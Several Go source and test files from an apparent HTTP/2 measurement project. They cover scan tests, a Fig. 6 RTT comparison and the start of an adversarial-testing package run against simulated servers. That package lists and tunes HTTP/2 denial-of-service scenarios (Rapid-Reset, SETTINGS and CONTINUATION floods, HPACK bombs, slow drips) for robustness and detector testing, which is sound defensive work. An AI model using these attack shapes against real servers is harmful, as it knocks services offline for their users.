	if err := h2scope.WriteScanRecords(f, h2scope.EpochJul2016, when, sum); err != nil {
		t.Fatal(err)
	}
	if err := h2scope.AppendScanStats(f, h2scope.EpochJul2016, when, sum.Stats); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}

	opts, err := parseFlags([]string{"-analyze", path}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if err := run(opts, &out); err != nil {
		t.Fatalf("run(-analyze): %v", err)
	}
	got := out.String()
	if !strings.Contains(got, "offline analysis of 5 stored records") {
		t.Errorf("analysis output missing record count:\n%s", got)
	}
	if !strings.Contains(got, "scan: 5 done (ok 5") {
		t.Errorf("analysis output missing stats trailer line:\n%s", got)
	}
}
