package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"h2scope"
)

func TestParseFlagsValidation(t *testing.T) {
	cases := []struct {
		name    string
		args    []string
		wantErr string // substring; empty means the args must parse
	}{
		{"defaults", nil, ""},
		{"sample scan", []string{"-sample", "10", "-retries", "1", "-timeout", "2s"}, ""},
		{"analyze alone", []string{"-analyze", "records.jsonl"}, ""},
		{"progress", []string{"-sample", "5", "-progress", "1s"}, ""},

		{"scale zero", []string{"-scale", "0"}, "-scale must be in (0,1]"},
		{"scale above one", []string{"-scale", "1.5"}, "-scale must be in (0,1]"},
		{"scale negative", []string{"-scale", "-0.5"}, "-scale must be in (0,1]"},
		{"bad epoch", []string{"-epoch", "3"}, "-epoch must be 0"},
		{"negative sample", []string{"-sample", "-1"}, "-sample must be >= 0"},
		{"zero parallel", []string{"-parallel", "0"}, "-parallel must be >= 1"},
		{"negative retries", []string{"-retries", "-2"}, "-retries must be >= 0"},
		{"zero timeout", []string{"-timeout", "0s"}, "-timeout must be positive"},
		{"negative progress", []string{"-progress", "-1s"}, "-progress must be >= 0"},
		{"analyze with sample", []string{"-analyze", "x.jsonl", "-sample", "10"},
			"cannot be combined with -sample"},
		{"analyze with out", []string{"-analyze", "x.jsonl", "-out", "y.jsonl"},
			"cannot be combined with -out"},
		{"out without sample", []string{"-out", "y.jsonl"}, "-out needs a measured scan"},
		{"out to stdout", []string{"-sample", "5", "-out", "-"}, ""},
		{"trace with sample", []string{"-sample", "5", "-trace", "traces"}, ""},
		{"trace without sample", []string{"-trace", "traces"}, "-trace needs a measured scan"},
		{"robustness with sample", []string{"-sample", "5", "-robustness"}, ""},
		{"robustness without sample", []string{"-robustness"}, "-robustness needs a measured scan"},
		{"flightrec with sample", []string{"-sample", "5", "-flightrec", "dumps"}, ""},
		{"flightrec without sample", []string{"-flightrec", "dumps"}, "-flightrec needs a measured scan"},
		{"positional junk", []string{"extra"}, "unexpected positional arguments"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := parseFlags(tc.args, io.Discard)
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("parseFlags(%v) = %v, want nil", tc.args, err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("parseFlags(%v) = %v, want error containing %q", tc.args, err, tc.wantErr)
			}
		})
	}
}

// TestRunAnalyzeRoundTrip drives the -analyze path end to end: scan a tiny
// population, persist records plus the stats trailer, then re-analyze the
// file through run().
func TestRunAnalyzeRoundTrip(t *testing.T) {
	pop := h2scope.GeneratePopulation(h2scope.EpochJul2016, 0.002, 7)
	sum, err := h2scope.ScanPopulation(pop, h2scope.ScanOptions{
		SampleSize: 5, Parallelism: 4, Seed: 7,
	})
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "records.jsonl")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	when := time.Date(2016, 7, 5, 0, 0, 0, 0, time.UTC)
	if err := h2scope.WriteScanRecords(f, h2scope.EpochJul2016, when, sum); err != nil {
		t.Fatal(err)
	}
	if err := h2scope.AppendScanStats(f, h2scope.EpochJul2016, when, sum.Stats, nil); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}

	opts, err := parseFlags([]string{"-analyze", path}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var out, errOut strings.Builder
	if err := run(opts, &out, &errOut); err != nil {
		t.Fatalf("run(-analyze): %v", err)
	}
	got := out.String()
	if !strings.Contains(got, "offline analysis of 5 stored records") {
		t.Errorf("analysis output missing record count:\n%s", got)
	}
	if !strings.Contains(got, "scan: 5 done (ok 5") {
		t.Errorf("analysis output missing stats trailer line:\n%s", got)
	}
}

// TestMachineCleanStdout covers the -out - contract: with records streamed
// to stdout, every stdout line must be a parseable scan record and all
// human-readable tables, progress, and notices must land on stderr only.
func TestMachineCleanStdout(t *testing.T) {
	opts, err := parseFlags([]string{
		"-epoch", "1", "-scale", "0.002", "-sample", "4",
		"-progress", "1s", "-out", "-",
	}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var stdout, stderr strings.Builder
	if err := run(opts, &stdout, &stderr); err != nil {
		t.Fatalf("run(-out -): %v", err)
	}

	records, err := h2scope.ReadScanRecords(strings.NewReader(stdout.String()))
	if err != nil {
		t.Fatalf("stdout is not a clean record stream: %v\nstdout:\n%s", err, stdout.String())
	}
	if len(records) != 5 {
		t.Fatalf("stdout carried %d records, want 4 sites + 1 stats trailer", len(records))
	}
	for i, rec := range records[:4] {
		if rec.IsStatsTrailer() {
			t.Errorf("record %d is a stats trailer; the trailer must come last", i)
		}
	}
	if !records[4].IsStatsTrailer() {
		t.Error("last stdout record is not the stats trailer")
	}
	lines := strings.Split(strings.TrimRight(stdout.String(), "\n"), "\n")
	if len(lines) != len(records) {
		t.Errorf("stdout has %d lines, want %d (one JSON object per line)", len(lines), len(records))
	}
	for i, line := range lines {
		if !strings.HasPrefix(line, "{") {
			t.Errorf("stdout line %d is not JSON: %q", i+1, line)
		}
	}
	for _, banned := range []string{"====", "-- ", "wrote "} {
		if strings.Contains(stdout.String(), banned) {
			t.Errorf("stdout contains human-readable output %q:\n%s", banned, stdout.String())
		}
	}
	errText := stderr.String()
	for _, want := range []string{"====", "Table IV", "Measured scan", "wrote 4 records"} {
		if !strings.Contains(errText, want) {
			t.Errorf("stderr missing human output %q", want)
		}
	}
}

// TestDebugEndpointsLiveDuringScan covers the -debug-addr contract end to
// end: while a netsim census scan is in flight, one HTTP GET against each of
// the four endpoint kinds (Prometheus text, JSON snapshot, expvar, pprof)
// must succeed and show the scan's own instruments.
func TestDebugEndpointsLiveDuringScan(t *testing.T) {
	opts, err := parseFlags([]string{
		"-epoch", "1", "-scale", "0.002", "-sample", "4", "-debug-addr", "127.0.0.1:0",
	}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var addr string
	opts.debugStarted = func(a string) { addr = a }

	fetched := make(map[string]string)
	var once sync.Once
	var fetchErr error
	opts.onScanRecord = func() {
		// onScanRecord fires serialized from the engine while other targets
		// are still being probed: the endpoint answers mid-scan.
		once.Do(func() {
			client := &http.Client{Timeout: 5 * time.Second}
			for _, p := range []string{"/metrics", "/metrics.json", "/debug/vars", "/debug/pprof/cmdline"} {
				resp, err := client.Get("http://" + addr + p)
				if err != nil {
					fetchErr = fmt.Errorf("GET %s: %w", p, err)
					return
				}
				body, err := io.ReadAll(resp.Body)
				_ = resp.Body.Close()
				if err != nil {
					fetchErr = fmt.Errorf("GET %s: reading body: %w", p, err)
					return
				}
				if resp.StatusCode != http.StatusOK {
					fetchErr = fmt.Errorf("GET %s: status %d", p, resp.StatusCode)
					return
				}
				fetched[p] = string(body)
			}
		})
	}

	var stdout, stderr strings.Builder
	if err := run(opts, &stdout, &stderr); err != nil {
		t.Fatalf("run: %v", err)
	}
	if fetchErr != nil {
		t.Fatal(fetchErr)
	}
	if len(fetched) != 4 {
		t.Fatalf("fetched %d endpoints, want 4 (no scan record fired?)", len(fetched))
	}
	if !strings.Contains(fetched["/metrics"], "h2_scan_targets_total") {
		t.Errorf("/metrics missing h2_scan_targets_total:\n%.400s", fetched["/metrics"])
	}
	if !strings.Contains(fetched["/metrics"], "# TYPE h2_scan_target_latency_ns histogram") {
		t.Errorf("/metrics missing histogram TYPE line:\n%.400s", fetched["/metrics"])
	}
	var snapDoc struct {
		Metrics []h2scope.MetricSnapshot `json:"metrics"`
	}
	if err := json.Unmarshal([]byte(fetched["/metrics.json"]), &snapDoc); err != nil {
		t.Fatalf("/metrics.json is not a snapshot document: %v", err)
	}
	if len(snapDoc.Metrics) == 0 {
		t.Error("/metrics.json snapshot is empty")
	}
	var vars map[string]any
	if err := json.Unmarshal([]byte(fetched["/debug/vars"]), &vars); err != nil {
		t.Fatalf("/debug/vars is not JSON: %v", err)
	}
	if fetched["/debug/pprof/cmdline"] == "" {
		t.Error("/debug/pprof/cmdline returned an empty body")
	}

	// The run's own reporting: the metrics table on human output, the
	// runtime sampler's gauges registered by the debug server.
	if !strings.Contains(stdout.String(), "-- Metrics snapshot --") {
		t.Error("stdout missing the final metrics table")
	}
	if !strings.Contains(stdout.String(), "go_goroutines") {
		t.Error("metrics table missing runtime sampler gauges")
	}
}

// TestDashboardLiveDuringScan covers the /dashboard mount: while a census
// scan is in flight, the HTML view and the JSON API must both answer from
// the -debug-addr mux, and the JSON must carry live phase-latency rows once
// the run completes.
func TestDashboardLiveDuringScan(t *testing.T) {
	opts, err := parseFlags([]string{
		"-epoch", "1", "-scale", "0.002", "-sample", "4", "-debug-addr", "127.0.0.1:0",
	}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var addr string
	opts.debugStarted = func(a string) { addr = a }

	var once sync.Once
	var midHTML, midJSON string
	var fetchErr error
	opts.onScanRecord = func() {
		once.Do(func() {
			client := &http.Client{Timeout: 5 * time.Second}
			get := func(p string) string {
				resp, err := client.Get("http://" + addr + p)
				if err != nil {
					fetchErr = fmt.Errorf("GET %s: %w", p, err)
					return ""
				}
				body, err := io.ReadAll(resp.Body)
				_ = resp.Body.Close()
				if err != nil || resp.StatusCode != http.StatusOK {
					fetchErr = fmt.Errorf("GET %s: status %d err %v", p, resp.StatusCode, err)
					return ""
				}
				return string(body)
			}
			midHTML = get("/dashboard")
			midJSON = get("/dashboard.json")
		})
	}

	var stdout, stderr strings.Builder
	if err := run(opts, &stdout, &stderr); err != nil {
		t.Fatalf("run: %v", err)
	}
	if fetchErr != nil {
		t.Fatal(fetchErr)
	}
	if !strings.Contains(midHTML, "live run dashboard") || !strings.Contains(midHTML, "h2census") {
		t.Errorf("/dashboard HTML mid-scan unexpected:\n%.400s", midHTML)
	}
	var st struct {
		Title   string `json:"title"`
		Targets int64  `json:"targets"`
		Phases  []struct {
			Phase string `json:"phase"`
			Count int64  `json:"count"`
		} `json:"phases"`
	}
	if err := json.Unmarshal([]byte(midJSON), &st); err != nil {
		t.Fatalf("/dashboard.json mid-scan is not JSON: %v\n%s", err, midJSON)
	}
	if st.Title != "h2census" {
		t.Errorf("dashboard title = %q", st.Title)
	}

	// After the scan the human output carries the phase-latency summary the
	// monitor derived from the same spans the dashboard serves.
	if !strings.Contains(stdout.String(), "-- Phase latency (p50/p99) --") {
		t.Errorf("stdout missing phase latency table:\n%s", stdout.String())
	}
	if !strings.Contains(stdout.String(), "dial") {
		t.Error("phase latency table has no dial row")
	}
	if !strings.Contains(stdout.String(), "dashboard: http://") {
		t.Error("stdout missing dashboard URL notice")
	}
}

// TestMachineCleanStdoutWithObservability re-pins the -out - contract with
// the observability layer active: a flight recorder plus progress columns
// must leave stdout a pure record stream (all notices on stderr), and the
// recorder must seal a manifest on exit.
func TestMachineCleanStdoutWithObservability(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "dumps")
	opts, err := parseFlags([]string{
		"-epoch", "1", "-scale", "0.002", "-sample", "4",
		"-progress", "1ms", "-flightrec", dir, "-out", "-",
	}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var stdout, stderr strings.Builder
	if err := run(opts, &stdout, &stderr); err != nil {
		t.Fatalf("run: %v", err)
	}

	records, err := h2scope.ReadScanRecords(strings.NewReader(stdout.String()))
	if err != nil {
		t.Fatalf("stdout is not a clean record stream: %v\nstdout:\n%s", err, stdout.String())
	}
	if len(records) != 5 {
		t.Fatalf("stdout carried %d records, want 4 sites + 1 stats trailer", len(records))
	}
	// Every stdout line is a JSON object — no human notices leaked (the
	// trailer's embedded metrics snapshot may legitimately mention obs
	// instrument names, so ban shapes, not words).
	for i, line := range strings.Split(strings.TrimRight(stdout.String(), "\n"), "\n") {
		if !strings.HasPrefix(line, "{") {
			t.Errorf("stdout line %d is not JSON: %q", i+1, line)
		}
	}
	if !strings.Contains(stderr.String(), "-- Phase latency (p50/p99) --") {
		t.Error("stderr missing phase latency table")
	}
	// The recorder sealed its manifest even with zero dumps.
	if _, err := os.Stat(filepath.Join(dir, "manifest.json")); err != nil {
		t.Errorf("flight recorder manifest: %v", err)
	}
}

// TestStatsTrailerEmbedsMetrics checks the -out stream's trailer record
// carries the registry snapshot alongside the engine stats.
func TestStatsTrailerEmbedsMetrics(t *testing.T) {
	opts, err := parseFlags([]string{
		"-epoch", "1", "-scale", "0.002", "-sample", "3", "-out", "-",
	}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var stdout, stderr strings.Builder
	if err := run(opts, &stdout, &stderr); err != nil {
		t.Fatalf("run: %v", err)
	}
	records, err := h2scope.ReadScanRecords(strings.NewReader(stdout.String()))
	if err != nil {
		t.Fatalf("reading stdout records: %v", err)
	}
	trailer := records[len(records)-1]
	if !trailer.IsStatsTrailer() {
		t.Fatal("last record is not the stats trailer")
	}
	if len(trailer.Metrics) == 0 {
		t.Fatal("stats trailer carries no metrics snapshot")
	}
	names := make(map[string]bool)
	for _, m := range trailer.Metrics {
		names[m.Name] = true
	}
	for _, want := range []string{"h2_scan_targets_total", "h2_conn_opened_total"} {
		if !names[want] {
			t.Errorf("trailer snapshot missing %s", want)
		}
	}
}

// TestRunRobustnessScan drives -robustness end to end: the scan runs the
// adversarial battery per sampled site, the rendered summary reports the
// scores, and persisted records carry them for offline re-analysis.
func TestRunRobustnessScan(t *testing.T) {
	path := filepath.Join(t.TempDir(), "records.jsonl")
	opts, err := parseFlags([]string{
		"-epoch", "2", "-scale", "0.002", "-sample", "2", "-robustness",
		"-out", path,
	}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var stdout, stderr strings.Builder
	if err := run(opts, &stdout, &stderr); err != nil {
		t.Fatalf("run(-robustness): %v", err)
	}
	if !strings.Contains(stdout.String(), "robustness: 2 sites scored") {
		t.Errorf("summary missing robustness line:\n%s", stdout.String())
	}

	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = f.Close()
	}()
	records, err := h2scope.ReadScanRecords(f)
	if err != nil {
		t.Fatal(err)
	}
	scored := 0
	for _, rec := range records {
		if rec.IsStatsTrailer() {
			continue
		}
		if rec.Robustness == nil {
			t.Errorf("%s: persisted record missing robustness score", rec.Domain)
			continue
		}
		if rec.Robustness.Value < 0 || rec.Robustness.Value > 1 {
			t.Errorf("%s: score %v outside [0,1]", rec.Domain, rec.Robustness.Value)
		}
		scored++
	}
	if scored != 2 {
		t.Errorf("scored records = %d, want 2", scored)
	}

	// The offline analyzer must re-derive the robustness column.
	analysis := h2scope.AnalyzeScanRecords(records).String()
	if !strings.Contains(analysis, "robustness: 2 sites scored") {
		t.Errorf("offline analysis missing robustness line:\n%s", analysis)
	}
}
