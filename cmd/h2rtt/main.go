// Command h2rtt regenerates the paper's Fig. 6: round-trip-time estimates
// by HTTP/2 PING, ICMP echo, TCP handshake timing, and HTTP/1.1
// request/response timing, over latency-shaped paths to materialized hosts
// drawn from the synthetic population's top server families.
//
// Usage:
//
//	h2rtt                         # 10 sites per family, paper-like
//	h2rtt -per-family 3 -scale 0.1  # faster, 10x-compressed wall clock
package main

import (
	"flag"
	"fmt"
	"os"

	"h2scope"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "h2rtt:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		epochFlag = flag.Int("epoch", 2, "experiment epoch: 1 (Jul 2016) or 2 (Jan 2017)")
		perFamily = flag.Int("per-family", 10, "sites per top server family (the paper uses 10)")
		samples   = flag.Int("samples", 3, "RTT samples per site per method")
		timeScale = flag.Float64("scale", 1.0, "wall-clock compression factor (0.05 = 20x faster; results unscaled)")
		seed      = flag.Int64("seed", 9, "site selection and jitter seed")
	)
	flag.Parse()

	epoch := h2scope.EpochJan2017
	if *epochFlag == 1 {
		epoch = h2scope.EpochJul2016
	}
	fmt.Printf("Figure 6: RTT by four methods (%s, %d sites/family, %d samples, time scale %.3g)\n\n",
		epoch, *perFamily, *samples, *timeScale)
	cmp, err := h2scope.RunRTTComparison(epoch, *perFamily, *samples, *timeScale, *seed)
	if err != nil {
		return err
	}
	fmt.Println(h2scope.RenderRTTComparison(cmp))
	fmt.Printf("(%d samples total; RTTs reported at full scale)\n", len(cmp.Samples))
	return nil
}
