// Package rtt reproduces the paper's Fig. 6: comparing round-trip-time
// estimates from four methods against the same hosts — HTTP/2 PING, ICMP
// echo, TCP three-way-handshake timing, and HTTP/1.1 request/response
// timing.
//
// The paper measures real sites from a campus machine; here every host is
// a materialized server behind a latency-shaped in-process path with a
// known ground-truth RTT, so the methods' biases are measured against
// truth: h2-ping, icmp, and tcp-rtt track the network RTT, while
// h1-request adds the server's processing time.
package rtt

import (
	"fmt"
	"sort"
	"sync"
	"time"

	"h2scope/internal/h2conn"
	"h2scope/internal/http1"
	"h2scope/internal/netsim"
	"h2scope/internal/server"
)

// Method identifies one RTT estimation technique of Fig. 6.
type Method string

// The four methods, named as in the figure's legend.
const (
	MethodH2Ping    Method = "h2-ping"
	MethodICMP      Method = "icmp"
	MethodTCP       Method = "tcp-rtt"
	MethodH1Request Method = "h1-request"
)

// Methods lists all four in the figure's order.
func Methods() []Method {
	return []Method{MethodH2Ping, MethodICMP, MethodTCP, MethodH1Request}
}

// Target is one host to measure.
type Target struct {
	// Domain names the host.
	Domain string
	// BaseRTT is the path's ground-truth round-trip time.
	BaseRTT time.Duration
	// Jitter is the maximum per-packet extra one-way delay.
	Jitter time.Duration
	// H1ProcessingDelay is the HTTP/1.1 server's per-request handling
	// time — the source of h1-request's upward bias.
	H1ProcessingDelay time.Duration
	// Profile and Site materialize the host's HTTP/2 server; zero-valued
	// Profile falls back to a compliant default.
	Profile server.Profile
	// Seed fixes the path's jitter sequence.
	Seed int64
}

// Sample is one measurement.
type Sample struct {
	Domain string
	Method Method
	RTT    time.Duration
}

// Comparison is the full Fig. 6 data set.
type Comparison struct {
	Samples []Sample
	// TimeScale is the factor real delays were shrunk by during the run;
	// RTTs in Samples are already scaled back to full size.
	TimeScale float64
}

// ByMethod groups RTT samples (in milliseconds) per method, sorted — the
// input of each CDF curve in Fig. 6.
func (c *Comparison) ByMethod() map[Method][]float64 {
	out := make(map[Method][]float64, 4)
	for _, s := range c.Samples {
		out[s.Method] = append(out[s.Method], float64(s.RTT)/float64(time.Millisecond))
	}
	for _, vals := range out {
		sort.Float64s(vals)
	}
	return out
}

// Options configures Compare.
type Options struct {
	// SamplesPerTarget is how many RTT samples each method collects per
	// host.
	SamplesPerTarget int
	// TimeScale shrinks real sleeping: path delays are multiplied by it
	// and measurements divided by it, preserving every relationship while
	// keeping wall-clock time manageable (e.g. 0.05 for benches).
	TimeScale float64
	// Parallelism bounds concurrent hosts.
	Parallelism int
	// Timeout bounds each individual measurement.
	Timeout time.Duration
}

// Compare measures every target with all four methods.
func Compare(targets []Target, opts Options) (*Comparison, error) {
	if opts.SamplesPerTarget < 1 {
		opts.SamplesPerTarget = 3
	}
	if opts.TimeScale <= 0 {
		opts.TimeScale = 1
	}
	if opts.Parallelism < 1 {
		opts.Parallelism = 8
	}
	if opts.Timeout == 0 {
		opts.Timeout = 30 * time.Second
	}
	cmp := &Comparison{TimeScale: opts.TimeScale}
	var (
		mu   sync.Mutex
		wg   sync.WaitGroup
		sem  = make(chan struct{}, opts.Parallelism)
		errs []error
	)
	for i := range targets {
		tgt := targets[i]
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			samples, err := measureTarget(&tgt, opts)
			mu.Lock()
			defer mu.Unlock()
			if err != nil {
				errs = append(errs, fmt.Errorf("rtt: %s: %w", tgt.Domain, err))
				return
			}
			cmp.Samples = append(cmp.Samples, samples...)
		}()
	}
	wg.Wait()
	if len(errs) > 0 {
		return cmp, errs[0]
	}
	return cmp, nil
}

func measureTarget(t *Target, opts Options) ([]Sample, error) {
	scale := func(d time.Duration) time.Duration {
		return time.Duration(float64(d) * opts.TimeScale)
	}
	unscale := func(d time.Duration) time.Duration {
		return time.Duration(float64(d) / opts.TimeScale)
	}
	path := netsim.NewPath(scale(t.BaseRTT), scale(t.Jitter), t.Seed)
	profile := t.Profile
	if profile.Name == "" {
		profile = server.ApacheProfile()
	}
	site := server.DefaultSite(t.Domain)
	h2srv := server.New(profile, site)
	h1 := &http1.Handler{
		Site:            site,
		ServerName:      profile.Name,
		ProcessingDelay: scale(t.H1ProcessingDelay),
	}

	out := make([]Sample, 0, 4*opts.SamplesPerTarget)
	add := func(m Method, rtt time.Duration) {
		out = append(out, Sample{Domain: t.Domain, Method: m, RTT: unscale(rtt)})
	}
	for i := 0; i < opts.SamplesPerTarget; i++ {
		// ICMP echo equivalent.
		icmp, err := path.ICMPPing()
		if err != nil {
			return nil, fmt.Errorf("icmp: %w", err)
		}
		add(MethodICMP, icmp)

		// TCP handshake timing.
		tcp, err := path.TCPHandshakeRTT()
		if err != nil {
			return nil, fmt.Errorf("tcp: %w", err)
		}
		add(MethodTCP, tcp)

		// HTTP/2 PING over a live connection.
		h2rtt, err := h2PingOnce(path, h2srv, opts.Timeout, byte(i))
		if err != nil {
			return nil, fmt.Errorf("h2-ping: %w", err)
		}
		add(MethodH2Ping, h2rtt)

		// HTTP/1.1 request/response interval.
		h1rtt, err := h1RequestOnce(path, h1, t.Domain)
		if err != nil {
			return nil, fmt.Errorf("h1-request: %w", err)
		}
		add(MethodH1Request, h1rtt)
	}
	return out, nil
}

func h2PingOnce(path *netsim.Path, srv *server.Server, timeout time.Duration, tag byte) (time.Duration, error) {
	clientNC, serverNC := path.Connect()
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.ServeConn(serverNC)
	}()
	c, err := h2conn.Dial(clientNC, h2conn.DefaultOptions())
	if err != nil {
		_ = clientNC.Close()
		<-done
		return 0, err
	}
	rtt, err := c.Ping([8]byte{'r', 't', 't', tag}, timeout)
	_ = c.Close()
	<-done
	return rtt, err
}

func h1RequestOnce(path *netsim.Path, h *http1.Handler, domain string) (time.Duration, error) {
	clientNC, serverNC := path.Connect()
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = h.ServeConn(serverNC)
	}()
	rtt, err := http1.RequestRTT(clientNC, domain, "/about.html")
	_ = clientNC.Close()
	<-done
	return rtt, err
}
