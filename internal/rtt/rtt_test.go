package rtt_test

import (
	"testing"
	"time"

	"h2scope/internal/rtt"
	"h2scope/internal/server"
)

func TestFig6MethodRelationships(t *testing.T) {
	// Fig. 6's finding: h2-ping ≈ tcp-rtt ≈ icmp, while h1-request runs
	// longer because it includes server processing time.
	targets := []rtt.Target{
		{Domain: "fast.example", BaseRTT: 20 * time.Millisecond, Jitter: 2 * time.Millisecond,
			H1ProcessingDelay: 15 * time.Millisecond, Profile: server.NginxProfile(), Seed: 1},
		{Domain: "slow.example", BaseRTT: 80 * time.Millisecond, Jitter: 5 * time.Millisecond,
			H1ProcessingDelay: 25 * time.Millisecond, Profile: server.ApacheProfile(), Seed: 2},
	}
	cmp, err := rtt.Compare(targets, rtt.Options{
		SamplesPerTarget: 3,
		TimeScale:        0.2, // 5x faster wall clock, same relationships
		Parallelism:      2,
	})
	if err != nil {
		t.Fatalf("Compare: %v", err)
	}
	byMethod := cmp.ByMethod()
	for _, m := range rtt.Methods() {
		if len(byMethod[m]) != 6 {
			t.Fatalf("%s has %d samples, want 6", m, len(byMethod[m]))
		}
	}
	means := map[rtt.Method]float64{}
	for m, vals := range byMethod {
		var sum float64
		for _, v := range vals {
			sum += v
		}
		means[m] = sum / float64(len(vals))
	}
	// h1-request must exceed the network-level methods.
	for _, m := range []rtt.Method{rtt.MethodH2Ping, rtt.MethodICMP, rtt.MethodTCP} {
		if means[rtt.MethodH1Request] <= means[m] {
			t.Errorf("h1-request mean %.1fms <= %s mean %.1fms, want larger", means[rtt.MethodH1Request], m, means[m])
		}
	}
	// h2-ping must track icmp within jitter plus overhead (a few ms at
	// full scale).
	diff := means[rtt.MethodH2Ping] - means[rtt.MethodICMP]
	if diff < -15 || diff > 30 {
		t.Errorf("h2-ping mean %.1fms vs icmp mean %.1fms: out of family", means[rtt.MethodH2Ping], means[rtt.MethodICMP])
	}
	// All estimates sit at or above the ground-truth RTT.
	for m, vals := range byMethod {
		for _, v := range vals {
			if v < 19 { // fastest ground truth is 20ms
				t.Errorf("%s sample %.2fms below ground truth", m, v)
			}
		}
	}
}

func TestCompareDefaults(t *testing.T) {
	cmp, err := rtt.Compare([]rtt.Target{
		{Domain: "d.example", BaseRTT: 5 * time.Millisecond, Seed: 3},
	}, rtt.Options{SamplesPerTarget: 1})
	if err != nil {
		t.Fatalf("Compare: %v", err)
	}
	if len(cmp.Samples) != 4 {
		t.Fatalf("samples = %d, want 4", len(cmp.Samples))
	}
}
