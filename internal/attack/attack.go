// Package attack drives adversarial HTTP/2 scenarios against a server
// through h2conn's raw frame control and reports typed outcome records.
//
// The paper's measurements assume servers that at least try to behave; this
// package asks the complementary question its robustness discussion leaves
// open — what does an implementation do when the client is hostile? Each
// scenario reproduces a known HTTP/2 attack shape at a parameterized rate,
// concurrency, duration, and jitter: Rapid-Reset stream churn
// (CVE-2023-44487), slow-DATA body drips, SETTINGS floods, zero-window
// starvation, HPACK bombs, and CONTINUATION floods. A Runner measures a
// clean-request latency baseline before the attack and re-probes after it,
// classifying the server as survived, degraded, or hung — or as having
// actively killed the attackers, the strongest defense — with GOAWAY
// evidence collected from the attacking connections.
//
// The defense half lives in internal/server: a real-time event-sequence
// detector (Server.StartDetector) consuming the trace bus, with per-profile
// thresholds and mitigation actions. The two halves meet in this package's
// tests, which assert every scenario is flagged and that replayed benign
// traffic is not.
package attack

import (
	"fmt"
	"math/rand"
	"net"
	"sort"
	"sync"
	"time"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
)

// Kind names one adversarial scenario. The vocabulary matches the server
// detector's AttackKind values so outcomes and detections line up.
type Kind string

// The scenario catalog.
const (
	// KindRapidReset opens streams and immediately resets them, as fast as
	// the rate allows — stream-accounting churn with no request cost.
	KindRapidReset Kind = "rapid-reset"
	// KindSlowDrip opens request bodies and drips them one byte at a time,
	// pinning server stream state for the whole duration.
	KindSlowDrip Kind = "slow-drip"
	// KindSettingsFlood streams SETTINGS frames, each obligating an ACK.
	KindSettingsFlood Kind = "settings-flood"
	// KindZeroWindowStarve advertises a zero stream window, requests large
	// resources, and never opens the window.
	KindZeroWindowStarve Kind = "zero-window-starvation"
	// KindHPACKBomb sends header blocks that decompress massively through
	// dynamic-table references.
	KindHPACKBomb Kind = "hpack-bomb"
	// KindContinuationFlood sends an unterminated CONTINUATION sequence.
	KindContinuationFlood Kind = "continuation-flood"
)

// Kinds returns the full scenario catalog in canonical order.
func Kinds() []Kind {
	return []Kind{
		KindRapidReset, KindSlowDrip, KindSettingsFlood,
		KindZeroWindowStarve, KindHPACKBomb, KindContinuationFlood,
	}
}

// ParseKind resolves a scenario name; ok is false for unknown names.
func ParseKind(name string) (Kind, bool) {
	for _, k := range Kinds() {
		if string(k) == name {
			return k, true
		}
	}
	return "", false
}

// Params tunes one scenario run. The zero value is usable: every field has
// a scenario-appropriate default.
type Params struct {
	// Authority is the :authority of attack and probe requests.
	Authority string
	// Path is the resource attacked (default "/"); starvation scenarios
	// want a large one so there is response data to withhold.
	Path string
	// Duration bounds the attack (default 1s).
	Duration time.Duration
	// Rate is the per-connection operation rate in ops/second (streams
	// reset, bytes dripped, frames sent — the scenario's natural unit);
	// 0 selects the scenario default.
	Rate float64
	// Concurrency is the number of attacker connections (default 1).
	// Connections the server kills are re-dialed until Duration elapses.
	Concurrency int
	// Jitter randomizes each inter-operation delay by up to this fraction
	// (0..1) of the nominal interval, so paced frames do not arrive in
	// lockstep across connections.
	Jitter float64
	// Seed makes the jitter sequence reproducible; 0 derives one from the
	// scenario kind.
	Seed int64
}

// withDefaults resolves zero fields against the scenario's defaults.
func (p Params) withDefaults(k Kind) Params {
	if p.Path == "" {
		p.Path = "/"
	}
	if p.Duration <= 0 {
		p.Duration = time.Second
	}
	if p.Concurrency <= 0 {
		p.Concurrency = 1
	}
	if p.Rate <= 0 {
		p.Rate = defaultRate(k)
	}
	if p.Jitter < 0 {
		p.Jitter = 0
	}
	if p.Jitter > 1 {
		p.Jitter = 1
	}
	if p.Seed == 0 {
		var h int64
		for _, b := range []byte(k) {
			h = h*131 + int64(b)
		}
		p.Seed = h
	}
	return p
}

func defaultRate(k Kind) float64 {
	switch k {
	case KindRapidReset:
		return 2000
	case KindSlowDrip:
		return 30
	case KindSettingsFlood:
		return 500
	case KindZeroWindowStarve:
		return 8 // streams opened, not a pace
	case KindHPACKBomb:
		return 50
	case KindContinuationFlood:
		return 500
	default:
		return 100
	}
}

// Verdict classifies the server's fate after one scenario.
type Verdict string

// Verdicts, best server showing first.
const (
	// VerdictKilledAttacker: the server stayed healthy and terminated the
	// attacking connections early (GOAWAY or close) — active defense.
	VerdictKilledAttacker Verdict = "killed-attacker"
